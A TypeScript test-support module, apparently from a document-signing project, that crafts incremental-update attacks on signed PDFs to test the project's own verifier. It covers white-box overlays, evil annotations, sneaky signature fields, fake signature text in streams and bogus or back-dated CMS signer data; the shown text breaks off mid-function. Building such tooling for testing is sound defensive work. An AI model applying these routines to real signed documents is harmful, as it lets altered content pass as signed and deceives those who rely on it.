// The attacker's toolkit for issue 14: what someone who holds ONE party's certificate and key can
// do to a signed PDF with nothing but incremental updates. Every function returns new bytes and
// leaves the input as it was, so earlier signatures keep verifying cryptographically; whether the
// result is still the document that was signed is the verifier's question, not this file's.
//
// Reading uses the verifier's own byte-level parser (DocumentView / pdf-syntax) for READING only;
// everything written here is written by hand, so the bytes are exactly what the attack needs.
import { createHash, createPrivateKey } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { Attribute, CertificateChoices, ContentInfo, SignedData, SignerInfo } from '@peculiar/asn1-cms';
import { AsnConvert, OctetString } from '@peculiar/asn1-schema';
import { Certificate, Time } from '@peculiar/asn1-x509';
import { canonicalHash } from '../../src/domain/shared/canonical-json';
import type { PdfContent } from '../../src/application/ports/document-pdf.port';
import type { PartySigner } from '../../src/application/ports/key-store.port';
import { DocumentRenderer, loadRenderAssets } from '../../src/adapters/pdf/render/render-document';
import { buildCmsSignedData, OID_SIGNATURE_TIMESTAMP_TOKEN } from '../../src/adapters/pdf/sign/cms-signed-data';
import { DocumentView } from '../../src/adapters/pdf/verify/pdf-revisions';
import { decodeStream, dictOf, nameOf, numberOf, textOf, type PdfDict, type PdfValue } from '../../src/adapters/pdf/verify/pdf-syntax';
import { createKeyObjectSigner } from '../../src/adapters/pki/key-object-signer';
import { DevTimestampAuthority } from '../../src/adapters/pki/dev-timestamp-authority';
import { decodePem } from '../../src/adapters/pki/pem';
import { certsDevPath, certsDevText } from './certs-dev';
import type { TestIdentity } from './pdf-test-signing';

export type Rect = [number, number, number, number];
/** A PDF object in serialised form: a string is taken byte for byte (latin1), so binary is safe. */
export type Body = string | Uint8Array;

// --- reading ---------------------------------------------------------------------------------

/** The document as a viewer sees it after the last revision. */
export function latest(pdf: Uint8Array): DocumentView {
  return DocumentView.open(pdf);
}

export interface LastXref {
  /** Offset the last `startxref` names: the /Prev of the next update. */
  offset: number;
  kind: 'table' | 'stream';
  size: number;
  /** Serialised trailer values, ready to copy into the next trailer. */
  root: string;
  info: string | undefined;
  id: string | undefined;
}

export function lastXref(pdf: Uint8Array): LastXref {
  const view = latest(pdf);
  const offset = view.xrefSections[0];
  if (offset === undefined) throw new Error('no cross-reference section');
  const head = Buffer.from(pdf.subarray(offset, offset + 4)).toString('latin1');
  const root = view.trailer.get('Root');
  if (!root) throw new Error('the trailer has no /Root');
  const info = view.trailer.get('Info');
  const id = view.trailer.get('ID');
  return {
    offset,
    kind: head === 'xref' ? 'table' : 'stream',
    size: numberOf(view.trailer.get('Size')) ?? 0,
    root: pdfText(root),
    info: info ? pdfText(info) : undefined,
    id: id ? pdfText(id) : undefined,
  };
}

/** The first object number no revision uses yet. */
export function nextObjectNumber(pdf: Uint8Array): number {
  const view = latest(pdf);
  return Math.max(numberOf(view.trailer.get('Size')) ?? 0, ...[...view.entries.keys()].map((n) => n + 1));
}

/** Object `num` as the latest revision has it. */
export function objectOf(pdf: Uint8Array, num: number): PdfValue {
  const value = latest(pdf).object(num);
  if (!value) throw new Error(`object ${num} is free or missing in the latest revision`);
  return value;
}

export function dictAt(view: DocumentView, num: number): PdfDict {
  const dict = dictOf(view.object(num));
  if (!dict) throw new Error(`object ${num} is not a dictionary`);
  return dict;
}

export function refNum(value: PdfValue | undefined): number {
  if (value?.kind !== 'ref') throw new Error(`expected an indirect reference, got ${value ? pdfText(value) : 'nothing'}`);
  return value.num;
}

/** Page object numbers in page order (walking /Pages /Kids). */
export function pageNumbers(pdf: Uint8Array): number[] {
  const view = latest(pdf);
  const out: number[] = [];
  const walk = (num: number, depth: number): void => {
    if (depth > 32) throw new Error('page tree too deep');
    const node = dictAt(view, num);
    if (nameOf(node.get('Type')) === 'Page') {
      out.push(num);
      return;
    }
    const kids = view.resolve(node.get('Kids'));
    for (const kid of kids?.kind === 'array' ? kids.items : []) walk(refNum(kid), depth + 1);
  };
  const catalog = view.catalog();
  if (!catalog) throw new Error('no catalog');
  walk(refNum(catalog.get('Pages')), 0);
  return out;
}

export function pageNumber(pdf: Uint8Array, page: 'first' | 'last' | number): number {
  const pages = pageNumbers(pdf);
  const num = page === 'first' ? pages[0] : page === 'last' ? pages[pages.length - 1] : pages[page];
  if (num === undefined) throw new Error(`page ${String(page)} does not exist (${pages.length} pages)`);
  return num;
}

export interface FieldInfo {
  num: number;
  name: string;
  dict: PdfDict;
  rect: Rect | null;
  /** A signature field whose /V is set. */
  signed: boolean;
}

/** Top-level AcroForm fields (merged field/widget dictionaries, as SDX and this kit write them). */
export function fields(pdf: Uint8Array): FieldInfo[] {
  const view = latest(pdf);
  const acroForm = view.dict(view.catalog()?.get('AcroForm'));
  const list = view.resolve(acroForm?.get('Fields'));
  return (list?.kind === 'array' ? list.items : []).flatMap((item) => {
    if (item.kind !== 'ref') return [];
    const dict = dictOf(view.object(item.num));
    if (!dict) return [];
    const rect = view.resolve(dict.get('Rect'));
    const numbers = rect?.kind === 'array' ? rect.items.map((i) => numberOf(view.resolve(i)) ?? 0) : [];
    return [{ num: item.num, name: textOf(dict.get('T')) ?? '', dict, rect: numbers.length === 4 ? (numbers as Rect) : null, signed: dict.has('V') }];
  });
}

/** The field named `name`, or with a name that starts with `name-` (today's `sdx-issuer-1`). */
export function findField(pdf: Uint8Array, name: string): FieldInfo | undefined {
  const all = fields(pdf);
  return all.find((f) => f.name === name) ?? all.find((f) => f.name.startsWith(`${name}-`));
}

/** The /Info entries as text. */
export function infoOf(pdf: Uint8Array): Record<string, string> {
  const view = latest(pdf);
  const info = view.dict(view.trailer.get('Info'));
  const out: Record<string, string> = {};
  for (const [key, value] of info ?? []) {
    const text = textOf(view.resolve(value));
    if (text !== undefined) out[key] = text;
  }
  return out;
}

/** The object number of the embedded `sdx-payload.json` file stream, if the document has one. */
export function embeddedPayloadStream(pdf: Uint8Array): number | undefined {
  const view = latest(pdf);
  const names = view.dict(view.catalog()?.get('Names'));
  const files = view.dict(names?.get('EmbeddedFiles'));
  const list = view.resolve(files?.get('Names'));
  if (list?.kind !== 'array') return undefined;
  for (let i = 0; i + 1 < list.items.length; i += 2) {
    if (textOf(view.resolve(list.items[i])) !== 'sdx-payload.json') continue;
    const spec = view.dict(list.items[i + 1]);
    const ef = view.dict(spec?.get('EF'));
    const stream = ef?.get('F') ?? ef?.get('UF');
    return stream?.kind === 'ref' ? stream.num : undefined;
  }
  return undefined;
}

/** The embedded payload JSON bytes (decoded), if any. */
export function embeddedPayload(pdf: Uint8Array): Uint8Array | undefined {
  const num = embeddedPayloadStream(pdf);
  const stream = num === undefined ? undefined : latest(pdf).object(num);
  return stream?.kind === 'stream' ? decodeStream(stream) : undefined;
}

// --- serialising -----------------------------------------------------------------------------

/** A value in PDF syntax. Strings come out as hex strings; stream data as latin1 (binary-safe). */
export function pdfText(value: PdfValue): string {
  switch (value.kind) {
    case 'null': return 'null';
    case 'bool': return String(value.value);
    case 'number': return Number.isInteger(value.value) ? String(value.value) : String(Math.round(value.value * 1e6) / 1e6);
    case 'name': return nameText(value.value);
    case 'string': return `<${Buffer.from(value.bytes).toString('hex')}>`;
    case 'ref': return `${value.num} ${value.gen} R`;
    case 'array': return `[${value.items.map(pdfText).join(' ')}]`;
    case 'dict': return dictText(value.entries);
    case 'stream': return streamText(dictText(value.entries, { Length: undefined }), value.data);
  }
}

/**
 * A dictionary with some entries replaced: `changes` values are PDF syntax (`'12 0 R'`, `'/Sig'`),
 * `undefined` removes the key; new keys are appended.
 */
export function dictText(entries: PdfDict, changes: Record<string, string | undefined> = {}): string {
  const parts: string[] = [];
  for (const [key, value] of entries) {
    if (key in changes) continue;
    parts.push(`${nameText(key)} ${pdfText(value)}`);
  }
  for (const [key, value] of Object.entries(changes)) if (value !== undefined) parts.push(`${nameText(key)} ${value}`);
  return `<< ${parts.join(' ')} >>`;
}

/** A stream object body with the right /Length; `dict` is a serialised dictionary without /Length. */
export function streamText(dict: string, data: string | Uint8Array): string {
  const bytes = typeof data === 'string' ? Buffer.from(data, 'latin1') : Buffer.from(data);
  const open = dict.trimEnd().replace(/>>$/, '');
  return `${open} /Length ${bytes.length} >>\nstream\n${bytes.toString('latin1')}\nendstream`;
}

export function nameText(name: string): string {
  return `/${[...name].map((ch) => (/[!-~]/.test(ch) && !/[()<>[\]{}/%#]/.test(ch) ? ch : `#${ch.charCodeAt(0).toString(16).padStart(2, '0')}`)).join('')}`;
}

/** A PDF literal string (ASCII, escaped). */
export function literal(text: string): string {
  return `(${text.replace(/[^\x20-\x7e]/g, '?').replace(/[\\()]/g, (c) => `\\${c}`)})`;
}

export function rectText(rect: Rect): string {
  return `[${rect.map((n) => String(Math.round(n * 100) / 100)).join(' ')}]`;
}

function pdfDate(date: Date): string {
  const iso = date.toISOString();
  return `(D:${iso.slice(0, 4)}${iso.slice(5, 7)}${iso.slice(8, 10)}${iso.slice(11, 13)}${iso.slice(14, 16)}${iso.slice(17, 19)}Z)`;
}

// --- writing an incremental update -----------------------------------------------------------

export interface UpdateObject {
  num: number;
  gen?: number;
  body: Body;
}

export interface WrittenUpdate {
  pdf: Uint8Array;
  /** Offset of each written object's `N G obj` header. */
  offsets: Map<number, number>;
}

/**
 * Appends one incremental update: the objects, a classic xref table section with /Prev, a trailer
 * carrying the last /Root, /Info and /ID, startxref and %%EOF.
 */
export function appendUpdate(pdf: Uint8Array, update: { objects: readonly UpdateObject[]; trailer?: Record<string, string> }): Uint8Array {
  return writeUpdate(pdf, update).pdf;
}

export function writeUpdate(pdf: Uint8Array, update: { objects: readonly UpdateObject[]; trailer?: Record<string, string> }): WrittenUpdate {
  const tail = lastXref(pdf);
  const chunks: Buffer[] = [Buffer.from(pdf)];
  let position = pdf.length;
  const write = (data: Body): void => {
    const bytes = typeof data === 'string' ? Buffer.from(data, 'latin1') : Buffer.from(data);
    chunks.push(bytes);
    position += bytes.length;
  };
  const last = pdf[pdf.length - 1];
  if (last !== 0x0a && last !== 0x0d) write('\n');
  const offsets = new Map<number, number>();
  const sorted = [...update.objects].sort((a, b) => a.num - b.num);
  for (const object of sorted) {
    offsets.set(object.num, position);
    write(`${object.num} ${object.gen ?? 0} obj\n`);
    write(object.body);
    write('\nendobj\n');
  }
  const xrefAt = position;
  write('xref\n');
  for (const run of runs(sorted.map((o) => o.num))) {
    write(`${run[0]} ${run.length}\n`);
    for (const num of run) {
      const gen = sorted.find((o) => o.num === num)?.gen ?? 0;
      write(`${String(offsets.get(num)).padStart(10, '0')} ${String(gen).padStart(5, '0')} n\r\n`);
    }
  }
  const size = Math.max(tail.size, ...sorted.map((o) => o.num + 1));
  const trailer: Record<string, string> = {
    Size: String(size),
    Root: tail.root,
    ...(tail.info ? { Info: tail.info } : {}),
    ...(tail.id ? { ID: tail.id } : {}),
    Prev: String(tail.offset),
    ...update.trailer,
  };
  write(`trailer\n<< ${Object.entries(trailer).map(([k, v]) => `/${k} ${v}`).join(' ')} >>\nstartxref\n${xrefAt}\n%%EOF\n`);
  return { pdf: new Uint8Array(Buffer.concat(chunks)), offsets };
}

function runs(numbers: number[]): number[][] {
  const result: number[][] = [];
  for (const n of [...numbers].sort((a, b) => a - b)) {
    const last = result[result.length - 1];
    if (last && last[last.length - 1] === n - 1) last.push(n);
    else result.push([n]);
  }
  return result;
}

/**
 * One revision being put together: allocate numbers, add new objects, rewrite existing ones.
 * Rewrites read the latest revision of `pdf` plus what this revision already changed.
 */
export class Revision {
  private next: number;
  readonly objects = new Map<number, Body>();
  readonly view: DocumentView;

  constructor(readonly pdf: Uint8Array) {
    this.view = latest(pdf);
    this.next = nextObjectNumber(pdf);
  }

  allocate(): number {
    return this.next++;
  }

  add(body: Body): number {
    const num = this.allocate();
    this.objects.set(num, body);
    return num;
  }

  set(num: number, body: Body): void {
    this.objects.set(num, body);
  }

  /** Rewrites dictionary `num` with some entries changed (see dictText). */
  change(num: number, changes: Record<string, string | undefined>): void {
    this.set(num, dictText(dictAt(this.view, num), changes));
  }

  write(): WrittenUpdate {
    return writeUpdate(this.pdf, { objects: [...this.objects].map(([num, body]) => ({ num, body })) });
  }

  bytes(): Uint8Array {
    return this.write().pdf;
  }

  /** Adds `ref` to the AcroForm's /Fields, rewriting whichever object holds the array. */
  addToFields(ref: string): void {
    const catalogNum = refNum(this.view.trailer.get('Root'));
    const catalog = dictAt(this.view, catalogNum);
    const entry = catalog.get('AcroForm');
    if (entry?.kind === 'ref') {
      const acroForm = dictAt(this.view, entry.num);
      const fieldsEntry = acroForm.get('Fields');
      if (fieldsEntry?.kind === 'ref') {
        this.set(fieldsEntry.num, appendToArray(this.view.resolve(fieldsEntry), ref));
      } else {
        this.change(entry.num, { Fields: appendToArray(fieldsEntry, ref), SigFlags: '3' });
      }
      return;
    }
    const inline = entry?.kind === 'dict' ? entry.entries : new Map<string, PdfValue>();
    const fieldsValue = this.view.resolve(inline.get('Fields'));
    this.change(catalogNum, { AcroForm: dictText(inline, { Fields: appendToArray(fieldsValue, ref), SigFlags: '3' }) });
  }

  /** Adds `ref` to a page's /Annots, rewriting the array object or the page. */
  addToAnnots(pageNum: number, ref: string): void {
    const page = dictAt(this.view, pageNum);
    const entry = page.get('Annots');
    if (entry?.kind === 'ref') this.set(entry.num, appendToArray(this.view.resolve(entry), ref));
    else this.change(pageNum, { Annots: appendToArray(entry, ref) });
  }

  /** A Helvetica font object for appearance streams. */
  helvetica(): number {
    return this.add(HELVETICA);
  }

  /** A form XObject that paints a white box over its whole BBox, then the lines in black. */
  whiteoutAppearance(width: number, height: number, lines: readonly string[], fontNum = this.helvetica()): number {
    return this.add(
      streamText(
        `<< /Type /XObject /Subtype /Form /BBox [0 0 ${round(width)} ${round(height)}] /Resources << /Font << /F1 ${fontNum} 0 R >> >> >>`,
        whiteBoxWithText(width, height, lines),
      ),
    );
  }
}

function appendToArray(value: PdfValue | undefined, ref: string): string {
  const items = value?.kind === 'array' ? value.items.map(pdfText) : [];
  return `[${[...items, ref].join(' ')}]`;
}

function round(n: number): string {
  return String(Math.round(n * 100) / 100);
}

export const HELVETICA = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';

/** Content that paints a white box `width` x `height` from the origin, then black 12 pt text lines. */
export function whiteBoxWithText(width: number, height: number, lines: readonly string[], size = 12): string {
  const text = lines.map((line, i) => `${i === 0 ? '' : 'T* '}${literal(line)} Tj`).join('\n');
  return [
    'q 1 1 1 rg',
    `0 0 ${round(width)} ${round(height)} re f Q`,
    'BT 0 0 0 rg',
    `/F1 ${size} Tf ${size * 1.25} TL`,
    `4 ${round(Math.max(2, height - size - 4))} Td`,
    text,
    'ET',
  ].join('\n');
}

// --- crafting visible changes ----------------------------------------------------------------

export interface OverlayOptions {
  /** Where on the page, in user space. */
  rect: Rect;
  page?: 'first' | 'last' | number;
  /** What the white box says instead. */
  lines: readonly string[];
}

/**
 * A revision that adds an EMPTY signature field whose widget (on `page`, over `rect`) draws a white
 * box and new text: the "sneaky signature" set-up. Without `lines` the widget has no appearance.
 */
export function addEmptySignatureField(pdf: Uint8Array, options: { name: string; rect: Rect; page?: 'first' | 'last' | number; lines?: readonly string[] }): Uint8Array {
  const revision = new Revision(pdf);
  const pageNum = pageNumber(pdf, options.page ?? 'last');
  const [x1, y1, x2, y2] = options.rect;
  const ap = options.lines ? revision.whiteoutAppearance(x2 - x1, y2 - y1, options.lines) : undefined;
  const widget = revision.add(
    `<< /Type /Annot /Subtype /Widget /FT /Sig /T ${literal(options.name)} /Rect ${rectText(options.rect)} /F 4 /P ${pageNum} 0 R${ap ? ` /AP << /N ${ap} 0 R >>` : ''} >>`,
  );
  revision.addToFields(`${widget} 0 R`);
  revision.addToAnnots(pageNum, `${widget} 0 R`);
  return revision.bytes();
}

/** A revision that adds a FreeText or Stamp annotation whose appearance whites out `rect`: the "evil annotation". */
export function addAnnotation(pdf: Uint8Array, options: OverlayOptions & { subtype?: 'FreeText' | 'Stamp' }): Uint8Array {
  const revision = new Revision(pdf);
  const pageNum = pageNumber(pdf, options.page ?? 'first');
  const [x1, y1, x2, y2] = options.rect;
  const ap = revision.whiteoutAppearance(x2 - x1, y2 - y1, options.lines);
  const subtype = options.subtype ?? 'FreeText';
  const extra = subtype === 'FreeText' ? ` /DA (/Helv 12 Tf 0 g) /Contents ${literal(options.lines.join(' '))}` : ' /Name /Approved';
  const annot = revision.add(
    `<< /Type /Annot /Subtype /${subtype} /Rect ${rectText(options.rect)} /F 4 /P ${pageNum} 0 R${extra} /AP << /N ${ap} 0 R >> >>`,
  );
  revision.addToAnnots(pageNum, `${annot} 0 R`);
  return revision.bytes();
}

/**
 * A revision that gives the widget of field `field` (exact name, or `field-N`) a new normal
 * appearance: a white box with new text over its whole /Rect (or over `rect`, moving the widget).
 */
export function replaceAppearance(pdf: Uint8Array, options: { field: string; lines: readonly string[]; rect?: Rect }): Uint8Array {
  const target = findField(pdf, options.field);
  if (!target) throw new Error(`no field named ${options.field} (fields: ${fields(pdf).map((f) => f.name).join(', ') || 'none'})`);
  const rect = options.rect ?? target.rect;
  if (!rect) throw new Error(`field ${target.name} has no /Rect`);
  const revision = new Revision(pdf);
  const ap = revision.whiteoutAppearance(rect[2] - rect[0], rect[3] - rect[1], options.lines);
  revision.change(target.num, { AP: `<< /N ${ap} 0 R >>`, ...(options.rect ? { Rect: rectText(options.rect) } : {}) });
  return revision.bytes();
}

/**
 * A revision that appends a content stream to a page (the page dictionary rewritten with /Contents
 * as an array and a form XObject added to its resources) painting a white box and text.
 */
export function addPageContent(pdf: Uint8Array, options: OverlayOptions): Uint8Array {
  const revision = new Revision(pdf);
  const view = revision.view;
  const pageNum = pageNumber(pdf, options.page ?? 'first');
  const page = dictAt(view, pageNum);
  const [x1, y1, x2, y2] = options.rect;
  const form = revision.whiteoutAppearance(x2 - x1, y2 - y1, options.lines);
  const content = revision.add(streamText('<< >>', `q 1 0 0 1 ${round(x1)} ${round(y1)} cm /SdxKitOverlay Do Q`));
  const resources = view.dict(page.get('Resources')) ?? new Map<string, PdfValue>();
  const xobjects = view.dict(resources.get('XObject')) ?? new Map<string, PdfValue>();
  const contents = page.get('Contents');
  const existing = contents?.kind === 'array' ? contents.items.map(pdfText) : contents ? [pdfText(contents)] : [];
  revision.change(pageNum, {
    Contents: `[${[...existing, `${content} 0 R`].join(' ')}]`,
    Resources: dictText(resources, { XObject: dictText(xobjects, { SdxKitOverlay: `${form} 0 R` }) }),
  });
  return revision.bytes();
}

/** A revision with one new stream object (referenced by nothing) holding `data`. */
export function addOrphanStream(pdf: Uint8Array, data: string): Uint8Array {
  const revision = new Revision(pdf);
  revision.add(streamText('<< >>', data));
  return revision.bytes();
}

// --- signers ---------------------------------------------------------------------------------

/** A demo party's signer from certs-dev/parties/<id>.pem and .key.pem, chained to the issuing CA. */
export function partySigner(partyId: string): PartySigner {
  return pemSigner(partyId, `parties/${partyId}`);
}

/** certs-dev/expired/expired-signer: valid 2026-01-01 to 2026-01-02 only. */
export function expiredSigner(): PartySigner {
  return pemSigner('sdx-dev-expired', 'expired/expired-signer');
}

/** A throw-away identity from test/support/pdf-test-signing.ts (self-signed, names no SDX party). */
export function identitySigner(identity: TestIdentity, partyId = 'not-an-sdx-party'): PartySigner {
  return createKeyObjectSigner({ partyId, privateKey: identity.privateKey, certificate: identity.certificate, chain: [] });
}

function pemSigner(partyId: string, base: string): PartySigner {
  const certificate = decodePem(certsDevText(`${base}.pem`), 'CERTIFICATE')[0];
  if (!certificate) throw new Error(`${base}.pem holds no certificate`);
  return createKeyObjectSigner({
    partyId,
    privateKey: createPrivateKey(readFileSync(certsDevPath(`${base}.key.pem`), 'utf8')),
    certificate,
    chain: decodePem(certsDevText('issuing-ca.pem'), 'CERTIFICATE'),
  });
}

/** The certs-dev TSA answering with `genTime` (whatever the real time is). */
export function timestampAuthorityAt(genTime: Date): DevTimestampAuthority {
  let serial = BigInt(Date.now());
  return DevTimestampAuthority.fromPem({
    certificatePem: certsDevText('tsa.pem'),
    privateKeyPem: certsDevText('tsa.key.pem'),
    chainPem: certsDevText('issuing-ca.pem'),
    clock: () => genTime,
    nextSerial: () => ++serial,
  });
}

// --- CMS crafting ----------------------------------------------------------------------------

export interface CmsCraft {
  /** A CMS signing-time signed attribute (a claim, like /M). */
  cmsSigningTime?: Date;
  /** An RFC 3161 signature timestamp from the certs-dev TSA with this genTime. */
  timestampAt?: Date;
  /** A second SignerInfo after the valid first one: by `signer` (default the same) over other bytes. */
  secondSignerInfo?: { signer?: PartySigner };
}

const OID_SIGNING_TIME = '1.2.840.113549.1.9.5';

/** A detached CMS SignedData over `digest` by `signer`, SDX's builder plus the crafted extras. */
export async function craftCms(signer: PartySigner, digest: Uint8Array, craft: CmsCraft = {}): Promise<Uint8Array> {
  const der = await buildCmsSignedData({ signer, contentDigest: digest });
  if (!craft.cmsSigningTime && !craft.timestampAt && !craft.secondSignerInfo) return der;
  const contentInfo = AsnConvert.parse(der, ContentInfo);
  const signedData = AsnConvert.parse(contentInfo.content, SignedData);
  const first = signedData.signerInfos[0];
  if (!first) throw new Error('no SignerInfo');
  if (craft.cmsSigningTime) {
    const time = AsnConvert.serialize(new Time({ utcTime: craft.cmsSigningTime }));
    await resign(first, signer, [...(first.signedAttrs ?? []), new Attribute({ attrType: OID_SIGNING_TIME, attrValues: [time] })]);
  }
  if (craft.timestampAt) {
    const token = await timestampAuthorityAt(craft.timestampAt).timestamp(sha256(new Uint8Array(first.signature.buffer)));
    first.unsignedAttrs = [new Attribute({ attrType: OID_SIGNATURE_TIMESTAMP_TOKEN, attrValues: [token.slice().buffer] })];
  }
  if (craft.secondSignerInfo) {
    const other = craft.secondSignerInfo.signer ?? signer;
    const bogus = AsnConvert.parse(await buildCmsSignedData({ signer: other, contentDigest: sha256(Buffer.from('not the signed bytes')) }), ContentInfo);
    const bogusData = AsnConvert.parse(bogus.content, SignedData);
    const second = bogusData.signerInfos[0];
    if (!second) throw new Error('no bogus SignerInfo');
    signedData.signerInfos.push(second);
    if (other !== signer) {
      signedData.certificates?.push(new CertificateChoices({ certificate: AsnConvert.parse(other.certificate, Certificate) }));
    }
  }
  contentInfo.content = AsnConvert.serialize(signedData);
  return new Uint8Array(AsnConvert.serialize(contentInfo));
}

/** Replaces the signed attributes (DER-sorted) and signs them again. */
async function resign(signerInfo: SignerInfo, signer: PartySigner, attributes: Attribute[]): Promise<void> {
  const sorted = attributes
    .map((attribute) => ({ attribute, der: Buffer.from(AsnConvert.serialize(attribute)) }))
    .sort((a, b) => Buffer.compare(a.der, b.der));
  signerInfo.signedAttrs = sorted.map((s) => s.attribute);
  const set = derTlv(0x31, Buffer.concat(sorted.map((s) => s.der)));
  signerInfo.signature = new OctetString(await signer.sign(set, 'cms'));
}

function derTlv(tag: number, body: Buffer): Buffer {
  const n = body.length;
  const length = n < 0x80 ? [n] : n < 0x100 ? [0x81, n] : n < 0x10000 ? [0x82, n >> 8, n & 0xff] : [0x83, n >> 16, (n >> 8) & 0xff, n & 0xff];
  return Buffer.concat([Buffer.from([tag, ...length]), body]);
}

function sha256(data: Uint8Array): Uint8Array {
  return createHash('sha256').update(data).digest();
}

// --- signing ---------------------------------------------------------------------------------

const CONTENTS_SIZE = 16384;
const BYTE_RANGE_PLACEHOLDER = '[0 0000000000 0000000000 0000000000]';

export interface SignUpdateOptions extends CmsCraft {
  /**
   * Which field: `{ fill: name }` fills an existing empty signature field (exact name); `{ create }`
   * adds a new field + widget on `page` at `rect` ([0 0 0 0] or omitted: invisible).
   */
  field: { fill: string; keepAppearance?: boolean } | { create: string; rect?: Rect; page?: 'first' | 'last' | number };
  /** Lines for a visible appearance (white box + text) over the widget's rect; none: no /AP written. */
  lines?: readonly string[];
  /** /Filter: default Adobe.PPKLite; null leaves it out. */
  filter?: string | null;
  /** /SubFilter: default ETSI.CAdES.detached; null leaves it out. */
  subFilter?: string | null;
  /** /Type: default Sig; null leaves it out. */
  type?: 'Sig' | 'DocTimeStamp' | null;
  /** /M, a claim; default now. null leaves it out. */
  signingTime?: Date | null;
  /** /Contents content: the CMS (default), or an RFC 3161 token from the TSA over the signed bytes. */
  contents?: 'cms' | 'timestamp-token';
  contentsSize?: number;
}

/**
 * Appends a signature as one incremental update: the field (new, or the existing empty one filled),
 * the signature dictionary with /Contents reserved and /ByteRange over the whole file, then a real
 * CMS by `signer` over those bytes.
 */
export async function signUpdate(pdf: Uint8Array, signer: PartySigner, options: SignUpdateOptions): Promise<Uint8Array> {
  const revision = new Revision(pdf);
  const sigNum = revision.allocate();
  const size = options.contentsSize ?? CONTENTS_SIZE;
  const entries = [
    options.type === null ? '' : `/Type /${options.type ?? 'Sig'}`,
    options.filter === null ? '' : `/Filter ${nameText(options.filter ?? 'Adobe.PPKLite')}`,
    options.subFilter === null ? '' : `/SubFilter ${nameText(options.subFilter ?? 'ETSI.CAdES.detached')}`,
    `/ByteRange ${BYTE_RANGE_PLACEHOLDER}`,
    `/Contents <${'0'.repeat(2 * size)}>`,
    options.signingTime === null ? '' : `/M ${pdfDate(options.signingTime ?? new Date())}`,
    `/Name ${literal(signer.partyId)}`,
  ].filter(Boolean);
  revision.set(sigNum, `<< ${entries.join(' ')} >>`);

  const field = options.field;
  if ('fill' in field) {
    const target = fields(pdf).find((f) => f.name === field.fill);
    if (!target) throw new Error(`no field named ${field.fill} to fill (fields: ${fields(pdf).map((f) => f.name).join(', ') || 'none'})`);
    if (target.signed) throw new Error(`field ${field.fill} is already signed`);
    const rect = target.rect ?? [0, 0, 0, 0];
    const ap = options.lines ? revision.whiteoutAppearance(rect[2] - rect[0], rect[3] - rect[1], options.lines) : undefined;
    revision.change(target.num, { V: `${sigNum} 0 R`, ...(ap ? { AP: `<< /N ${ap} 0 R >>` } : {}) });
  } else {
    const rect = field.rect ?? [0, 0, 0, 0];
    const pageNum = pageNumber(pdf, field.page ?? 'last');
    const visible = rect[2] > rect[0] && rect[3] > rect[1];
    const ap = visible && options.lines ? revision.whiteoutAppearance(rect[2] - rect[0], rect[3] - rect[1], options.lines) : undefined;
    const widget = revision.add(
      `<< /Type /Annot /Subtype /Widget /FT /Sig /T ${literal(field.create)} /Rect ${rectText(rect)} /F ${visible ? 4 : 132} /P ${pageNum} 0 R /V ${sigNum} 0 R${ap ? ` /AP << /N ${ap} 0 R >>` : ''} >>`,
    );
    revision.addToFields(`${widget} 0 R`);
    revision.addToAnnots(pageNum, `${widget} 0 R`);
  }
  const written = revision.write();
  const at = written.offsets.get(sigNum);
  if (at === undefined) throw new Error('signature dictionary not written');
  return fillSignature(written.pdf, at, async (digest) =>
    options.contents === 'timestamp-token' ? timestampAuthorityAt(options.timestampAt ?? new Date()).timestamp(digest) : craftCms(signer, digest, options),
  );
}

/**
 * Finds the first `/ByteRange [0 0000000000 …]` placeholder at or after `from`, and the `/Contents <…>`
 * after it; sets the ByteRange to cover the whole file but the hex string, and writes what `sign`
 * returns for the SHA-256 of the covered bytes into the hex string.
 */
export async function fillSignature(pdf: Uint8Array, from: number, sign: (digest: Uint8Array) => Promise<Uint8Array>): Promise<Uint8Array> {
  const out = Buffer.from(pdf);
  const text = out.toString('latin1');
  const rangeAt = text.indexOf(BYTE_RANGE_PLACEHOLDER, from);
  const contentsKey = text.indexOf('/Contents <', from);
  if (rangeAt < 0 || contentsKey < 0) throw new Error('no signature placeholder after offset ' + String(from));
  const a = contentsKey + '/Contents '.length;
  const b = text.indexOf('>', a) + 1;
  const range = `[0 ${a} ${b} ${out.length - b}]`;
  if (range.length > BYTE_RANGE_PLACEHOLDER.length) throw new Error('ByteRange does not fit its placeholder');
  out.write(range.padEnd(BYTE_RANGE_PLACEHOLDER.length, ' '), rangeAt, 'latin1');
  const digest = createHash('sha256').update(out.subarray(0, a)).update(out.subarray(b)).digest();
  const signature = await sign(digest);
  const hex = Buffer.from(signature).toString('hex').toUpperCase();
  if (hex.length > b - a - 2) throw new Error(`the signature (${signature.length} bytes) does not fit /Contents`);
  out.write(hex, a + 1, 'latin1');
  return new Uint8Array(out);
}

/**
 * Text inside a stream that looks exactly like a signature dictionary (`N 0 obj << /Type /Sig
 * /ByteRange [...] /Contents <CMS> >> endobj`) whose ByteRange covers the whole file and whose CMS
 * by `signer` is valid for it. No cross-reference data points at it: it is not a signature.
 */
export async function addFakeSignatureText(pdf: Uint8Array, signer: PartySigner): Promise<Uint8Array> {
  const revision = new Revision(pdf);
  const fakeNum = revision.allocate() + 1000;
  const data = [
    '% Looks like a signature object; it is data in a stream.',
    `${fakeNum} 0 obj`,
    `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange ${BYTE_RANGE_PLACEHOLDER} /Contents <${'0'.repeat(2 * CONTENTS_SIZE)}> /M ${pdfDate(new Date())} >>`,
    'endobj',
  ].join('\n');
  const streamNum = revision.add(streamText('<< >>', data));
  const written = revision.write();
  const at = written.offsets.get(streamNum) ?? 0;
  return fillSignature(written.pdf, at, (digest) => craftCms(signer, digest));
}

// --- SDX-shaped moves ------------------------------------------------------------------------

/**
 * Signs the way SDX's countersigner does: fills the empty reserved field (`sdx-counter` by
 * default) when the document has it, else (documents from before reserved fields) adds a new
 * field `<reserved>-N` in the counter box.
 */
export async function sdxStyleSign(
  pdf: Uint8Array,
  signer: PartySigner,
  options: { reserved?: 'sdx-issuer' | 'sdx-counter'; lines?: readonly string[]; signingTime?: Date } & CmsCraft = {},
): Promise<Uint8Array> {
  const reserved = options.reserved ?? 'sdx-counter';
  const lines = options.lines ?? [`Digitally signed by ${signer.partyId}`];
  const empty = fields(pdf).find((f) => f.name === reserved && !f.signed);
  if (empty) return signUpdate(pdf, signer, { ...options, field: { fill: reserved }, lines });
  const box = reserved === 'sdx-issuer' ? ISSUER_BOX : COUNTER_BOX;
